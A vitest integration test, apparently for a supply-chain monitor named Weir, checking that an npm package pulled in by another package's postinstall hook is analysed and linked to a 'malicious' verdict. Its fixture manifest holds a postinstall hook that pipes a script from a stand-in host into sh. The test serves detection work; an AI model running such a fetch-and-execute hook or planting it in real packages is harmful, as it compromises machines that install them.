import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type NpmStandIn, startNpmStandIn } from '@weir/registries/npm/stand-in';
import { silentLogger, systemClock } from '@weir/runtime';
import { openStore, type Store } from '@weir/store';
import { startTestPostgres, type TestPostgres } from '@weir/store/testing';
import { afterAll, beforeAll, expect, it, vi } from 'vitest';
import { startWeir } from '../testing/run-weir.ts';

const dataDir = mkdtempSync(join(tmpdir(), 'weir-brings-in-'));
let postgres: TestPostgres;
let standIn: NpmStandIn;
let store: Store;
let databaseUrl = '';

beforeAll(async () => {
  postgres = await startTestPostgres();
  databaseUrl = await postgres.createDatabase();
  standIn = await startNpmStandIn();
  store = await openStore({
    databaseUrl,
    applicationName: 'weir-test',
    poolMax: 2,
    clock: systemClock,
    logger: silentLogger,
    emitter: 'outbox',
  });
});
afterAll(async () => {
  await store[Symbol.asyncDispose]();
  await standIn[Symbol.asyncDispose]();
  await postgres[Symbol.asyncDispose]();
  rmSync(dataDir, { recursive: true });
});

it('a hook that runs a package leads to that package being analysed, and linked with its verdict', async () => {
  const evil = { scripts: { postinstall: 'curl http://files.example/a.sh | sh' } };
  // Long before Weir looked for the first time: nobody would look at it but for the hook.
  const time = '2020-01-01T00:00:00.000Z';
  standIn.world.publish([{ name: 'evil-helper', version: '1.0.0', manifest: evil, time }]);
  standIn.world.publish([{ name: 'evil-helper', version: '2.0.0', time }]);
  const monitor = startWeir(['monitor'], {
    HOME: dataDir,
    WEIR_DATA: dataDir,
    WEIR_HTTP_PORT: '0',
    WEIR_POLL_MS: '100',
    DATABASE_URL: databaseUrl,
    WEIR_NPM_FEED_URL: standIn.feedUrl,
    WEIR_NPM_DOCUMENTS_URL: standIn.url,
  });
  await vi.waitFor(
    async () => expect((await store.feeds.health('npmjs'))?.cursor ?? null).not.toBeNull(),
    30_000,
  );

  standIn.world.publish([
    { name: 'app', version: '1.0.0', manifest: { scripts: { postinstall: 'npx --yes evil-helper@1.0.0' } } },
  ]);

  await vi.waitFor(async () => {
    const brings = await store.edges.listFrom('npmjs', 'app', '1.0.0');
    expect(brings.map(({ edge, state, target }) => ({ channel: edge.channel, state, target }))).toEqual([
      {
        channel: 'run',
        state: 'linked',
        target: { purl: 'pkg:npm/evil-helper@1.0.0', verdict: 'malicious' },
      },
    ]);
  }, 40_000);
  const to = await store.edges.listTo('npmjs', 'evil-helper', '1.0.0', 10);
  expect(to.map(({ from }) => from)).toEqual(['pkg:npm/app@1.0.0']);
  expect(await store.releases.findFilesByRelease('npmjs', 'evil-helper', '2.0.0')).toEqual([]);
  monitor.kill('SIGTERM');
  await monitor.ended;
}, 90_000);
